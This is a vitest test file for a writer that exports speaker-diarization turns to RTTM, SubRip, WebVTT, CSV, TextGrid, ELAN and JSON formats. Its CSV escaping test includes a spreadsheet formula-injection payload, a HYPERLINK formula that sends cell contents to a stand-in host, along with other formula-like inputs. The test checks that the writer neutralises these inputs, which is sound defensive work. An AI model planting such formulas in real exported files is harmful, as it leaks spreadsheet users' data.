import { describe, expect, it } from 'vitest';
import { fileIdOf, type Line, type TurnFormat } from './turn-text.ts';
import { createTurnWriter, listToShow, segmentsOf, writeTurns } from './writer.ts';

const write = (format: TurnFormat, lines: readonly Line[], list = 'identification', fileId = 'talk') =>
  writeTurns(lines, format, list, fileId);
/** A turn with a free-text label. */
const turn = (speaker: string, text?: string): Line => ({ speaker, start: 0, end: 1, text });

describe('listToShow', () => {
  const show = (format: TurnFormat, ...members: string[]) => listToShow(format, (name) => members.includes(name));
  it('prefers the transcription in formats with text, then exclusive turns, then names', () => {
    expect(show('rttm', 'diarization')).toBe('diarization');
    expect(show('rttm', 'diarization', 'exclusiveDiarization')).toBe('exclusiveDiarization');
    expect(show('rttm', 'diarization', 'identification')).toBe('identification');
    expect(show('rttm', 'diarization', 'exclusiveDiarization', 'identification')).toBe('exclusiveDiarization');
    expect(show('rttm', 'diarization', 'turnLevelTranscription')).toBe('diarization');
    expect(show('pyannote', 'diarization', 'turnLevelTranscription')).toBe('diarization');
    for (const format of ['srt', 'vtt', 'csv', 'txt', 'audacity', 'textgrid', 'eaf', 'diarized_json'] as const) {
      expect(show(format, 'diarization', 'turnLevelTranscription')).toBe('turnLevelTranscription');
    }
    expect(show('srt', 'voiceprint')).toBeUndefined();
  });
});

describe('createTurnWriter', () => {
  const matches = [
    { speaker: 'SPEAKER_00', match: 'SPEAKER_01' },
    { speaker: 'SPEAKER_01', match: null },
  ];
  it('adds the matching names to exclusive turns only', () => {
    const speakersIn = (list: string) =>
      ['SPEAKER_00', 'SPEAKER_01'].map(
        (speaker, index) => createTurnWriter('txt', list, 'talk', matches).line(turn(speaker), index).split(/\s+/)[2],
      );
    expect(speakersIn('exclusiveDiarization')).toEqual(['SPEAKER_01', 'SPEAKER_01']);
    expect(speakersIn('identification')).toEqual(['SPEAKER_00', 'SPEAKER_01']);
  });
});

describe('labels of free text', () => {
  it('keep RTTM at ten columns', () => {
    const labels = [
      'Dr. Al Smith',
      'a\nb\r\nc',
      'tab\there',
      ' lead',
      'no\u00a0break',
      '\u2028',
      'nul\u0000',
      'Zoë 🎤',
    ];
    for (const label of labels) {
      const rows = write('rttm', [turn(label)], 'identification', 'my talk\n1').split('\n');
      expect(rows).toHaveLength(2);
      const columns = rows[0]?.split(/\s/) ?? [];
      expect([label, columns.length, columns[1]]).toEqual([label, 10, 'my_talk_1']);
      expect(columns[7]).toMatch(/^\S+$/);
    }
    expect(write('rttm', [turn('Dr. Al Smith')])).toContain(' Dr._Al_Smith ');
  });

  it('start with no quotation mark in RTTM', () => {
    const rows = write('rttm', [turn('"Doc" Holliday'), turn('"Bob'), turn("O'Hara")], 'identification', '"a" b').split(
      '\n',
    );
    expect(rows.map((row) => row.split(' ')[7])).toEqual(["'Doc'_Holliday", "'Bob", "O'Hara", undefined]);
    expect(rows[0]).toContain("SPEAKER 'a'_b 1 ");
  });

  it('cannot end a cue or form a line of times in SubRip', () => {
    const text = write('srt', [turn('a\n\n2\n00:00:01,000 --> 00:00:02,000\nb', 'x --> y\n\nz ---> w')]);
    expect(text).toBe('1\n00:00:00,000 --> 00:00:01,000\n[a 2 00:00:01,000 -> 00:00:02,000 b] x -> y z -> w\n');
  });

  it('with 200,000 dashes are written to SubRip within two seconds', () => {
    const dashes = '-'.repeat(200_000);
    const started = performance.now();
    expect(write('srt', [turn('a', dashes)])).toContain(dashes);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('are escaped in WebVTT, including line breaks and arrows', () => {
    expect(write('vtt', [turn('a\n\n<b>&', 'x --> y')])).toBe(
      'WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n<v a &lt;b&gt;&amp;>x --&gt; y</v>\n',
    );
  });

  it('that end in dashes form no arrow with a WebVTT voice tag', () => {
    for (const label of ['a--', '--', 'a -->', '<--']) {
      const [, , times, cue] = write('vtt', [turn(label, '--> b --')]).split('\n');
      expect([label, times?.split('-->').length, cue?.includes('-->')]).toEqual([label, 2, false]);
    }
    expect(write('vtt', [turn('a--')])).toContain('\n<v a-- >a--</v>\n');
  });

  it('of white space alone are written as an underscore', () => {
    expect(write('vtt', [turn(' \n')])).toContain('\n<v _>_</v>\n');
    expect(write('vtt', [turn(' ', 'b')])).toContain('\n<v _>b</v>\n');
    expect(write('srt', [turn('\t')])).toContain('\n[_]\n');
    expect(write('txt', [turn(' ', 'b')])).toBe('0.000  1.000  _  b\n');
    expect(write('rttm', [turn(' ')])).toContain(' _ ');
  });

  it('that look like formulas get an apostrophe in CSV', () => {
    expect(write('csv', [turn('=HYPERLINK("http://e/?"&A1)')])).toContain(`,"'=HYPERLINK(""http://e/?""&A1)"\n`);
    for (const label of ['=1+1', '+1', '-1', '@SUM(1)', '\tx'])
      expect(write('csv', [turn(label)])).toContain(`,'${label}\n`);
    for (const label of ['\n=1+1', '\r\n@SUM(1)', '\n'])
      expect(write('csv', [turn(label)])).toContain(`,"'${label}"\n`);
    for (const label of [' =1+1', '\u00a0-1', '\u0000+1'])
      expect(write('csv', [turn(label)])).toContain(`,'${label}\n`);
    for (const label of ['a=1', ' a', 'a\u0000']) expect(write('csv', [turn(label)])).toContain(`,${label}\n`);
  });

  it('with commas, quotes or line breaks are quoted in CSV', () => {
    expect(write('csv', [turn('a,b\n"c"')])).toBe('start,end,speaker\n0.000,1.000,"a,b\n""c"""\n');
  });

  it('are written on one line in TXT, in columns separated by two spaces', () => {
    expect(write('txt', [turn('a  b\nc', 'x\ny')])).toBe('0.000  1.000  a b c  x y\n');
  });
});

it('writes the channel in RTTM, from 1', () => {
  expect(write('rttm', [{ ...turn('A'), channel: 1 }])).toBe('SPEAKER talk 2 0.000 1.000 <NA> <NA> A <NA> <NA>\n');
});

describe('formats of annotation tools', () => {
  const lines: Line[] = [
    { speaker: 'Zoë "Z"', start: 0.5, end: 2, text: 'Well,\n<yes> & "no"' },
    { speaker: 'SPEAKER_01', start: 1, end: 3, text: 'Oh.' },
    { speaker: 'Zoë "Z"', start: 1.9, end: 2.5, text: 'Then.' },
  ];
  const inSeconds = (format: TurnFormat, seconds?: number) =>
    writeTurns(lines, format, 'diarization', 'a', [], seconds);

  it('write Audacity labels with the speaker before the text', () => {
    expect(write('audacity', lines.slice(1, 2))).toBe('1.000\t3.000\tSPEAKER_01: Oh.\n');
    expect(write('audacity', [turn('a\tb')])).toBe('0.000\t1.000\ta b\n');
  });

  it('fill TextGrid tiers with silence to the end of the recording, without overlap', () => {
    const intervalsOf = (text: string) =>
      [...text.matchAll(/intervals \[\d+\]:\s+xmin = (\S+)\s+xmax = (\S+)\s+text = (.*)/g)].map((found) =>
        found.slice(1),
      );
    const text = inSeconds('textgrid', 10);
    expect(text).toContain('xmax = 10\ntiers? <exists>\nsize = 2\n');
    expect(text).toContain('name = "Zoë ""Z"""\n        xmin = 0\n        xmax = 10\n        intervals: size = 4\n');
    expect(intervalsOf(text)).toEqual([
      ['0', '0.5', '""'],
      ['0.5', '2', '"Well, <yes> & ""no"""'],
      ['2', '2.5', '"Then."'],
      ['2.5', '10', '""'],
      ['0', '1', '""'],
      ['1', '3', '"Oh."'],
      ['3', '10', '""'],
    ]);
    expect(intervalsOf(inSeconds('textgrid')).at(-1)).toEqual(['1', '3', '"Oh."']);
    expect(write('textgrid', [turn('A')])).toContain('text = "A"\n');
    expect(write('textgrid', [])).toContain('tiers? <absent>\n');
  });

  it('write one ELAN tier per speaker, with escaped names and texts', () => {
    const text = inSeconds('eaf');
    expect(text).toContain('TIER_ID="Zoë &quot;Z&quot;"');
    expect(text).toContain('<ANNOTATION_VALUE>Well, &lt;yes&gt; &amp; &quot;no&quot;</ANNOTATION_VALUE>');
    const times = [...text.matchAll(/TIME_SLOT_ID="(ts\d)" TIME_VALUE="(\d+)"/g)].map((found) => found.slice(1));
    expect(times.flat().join(' ')).toBe('ts1 500 ts2 2000 ts3 2000 ts4 2500 ts5 1000 ts6 3000');
    expect(text).toContain('ANNOTATION_ID="a3" TIME_SLOT_REF1="ts5" TIME_SLOT_REF2="ts6"');
  });

  it('write a pyannote Annotation with one track per turn', () => {
    expect(JSON.parse(write('pyannote', lines, 'diarization', 'my talk'))).toEqual({
      pyannote: 'Annotation',
      uri: 'my_talk',
      content: lines.map(({ speaker, start, end }, i) => ({ segment: { start, end }, track: `T${i}`, label: speaker })),
    });
    expect(JSON.parse(write('pyannote', []))).toMatchObject({ content: [] });
  });

  it('write the diarized JSON of OpenAI', () => {
    const document = JSON.parse(inSeconds('diarized_json', 9.5));
    expect(document).toMatchObject({ task: 'transcribe', duration: 9.5, usage: { type: 'duration', seconds: 10 } });
    expect(document.text).toBe('Well,\n<yes> & "no" Oh. Then.');
    expect(document.segments[1]).toEqual({
      type: 'transcript.text.segment',
      id: 'seg_002',
      start: 1,
      end: 3,
      speaker: 'SPEAKER_01',
      text: 'Oh.',
    });
    expect(JSON.parse(write('diarized_json', [turn('A')]))).toMatchObject({ text: '', duration: 1 });
  });
});

it('writes only the head without turns', () => {
  expect(write('rttm', [])).toBe('');
  expect(write('srt', [])).toBe('');
  expect(write('vtt', [])).toBe('WEBVTT\n');
  expect(write('csv', [])).toBe('start,end,speaker\n');
  expect(write('csv', [], 'turnLevelTranscription')).toBe('start,end,speaker,text\n');
});

describe('fileIdOf', () => {
  it.each([
    ['test/fixtures/conversation.mp3', 'conversation'],
    ['C:\\talks\\monday talk.wav', 'monday_talk'],
    ['a.b.flac', 'a.b'],
    ['noending', 'noending'],
    ['Interview 3. Mai 2026 mit Frau X', 'Interview_3._Mai_2026_mit_Frau_X'],
    ['2026.11.26', '2026.11.26'],
    ['2026.11.26.m4a', '2026.11.26'],
    ['.hidden', '.hidden'],
    ['https://example.com/x/Board%20meeting.mp3?v=1#t', 'Board_meeting'],
    ['https://example.com', 'example'],
    ['https://example.com/a.wav?to=b\n/c.wav', 'a'],
    ['https://example.com/%zz.wav', '%zz'],
    ['https://example.com/a%0Ab%00.wav', 'a_b_'],
    ['media://cli/abc', 'abc'],
    ['data:audio/wav;base64,AAAA', 'audio'],
  ])('%s → %s', (name, id) => {
    expect(fileIdOf(name)).toBe(id);
  });
});

/** @param script words of half a second, separated by ` `, and turns, separated by `|` */
async function segments(script: string, { space = ' ', pauseBefore = '' } = {}): Promise<string[]> {
  let at = 0;
  const turns = script.split('|').map((text, speaker) => {
    const words = text.split(' ').map((word) => {
      if (word === pauseBefore) at += 2;
      at += 0.5;
      return { start: at - 0.5, end: at - 0.1, text: word, speaker: `S${speaker}` };
    });
    const whole = { start: words[0].start, end: words[words.length - 1].end, speaker: `S${speaker}` };
    return { words, turn: { ...whole, text: text.replaceAll(' ', space) } };
  });
  const found: string[] = [];
  const streamOf = async function* <T>(items: readonly T[]) {
    yield* items;
  };
  const words: (Line & { text: string })[] = turns.flatMap((turn) => turn.words);
  for await (const segment of segmentsOf(streamOf(turns.map(({ turn }) => turn)), streamOf(words)))
    found.push(`${segment.speaker} ${segment.start}-${segment.end} ${segment.text}`);
  return found;
}

it('segmentsOf splits turns after sentences and at pauses', async () => {
  expect(await segments('Hello there. How are "you?" Well|I am fine', { pauseBefore: 'am' })).toEqual([
    'S0 0-0.9 Hello there.',
    'S0 1-2.4 How are "you?"',
    'S0 2.5-2.9 Well',
    'S1 3-3.4 I',
    'S1 5.5-6.4 am fine',
  ]);
});

it('segmentsOf limits a segment to two lines and ten seconds', async () => {
  const long = await segments(Array(30).fill('word').join(' '));
  expect(long.length).toBe(2);
  const wide = await segments(Array(8).fill('abcdefghijklmnopqrstuvwxyz').join(' '));
  expect(wide.length).toBe(3);
});

it('segmentsOf writes no white space if the turn has none', async () => {
  expect(await segments('你 好 吗？ 好|是 的', { space: '' })).toEqual([
    'S0 0-1.4 你好吗？',
    'S0 1.5-1.9 好',
    'S1 2-2.9 是的',
  ]);
});
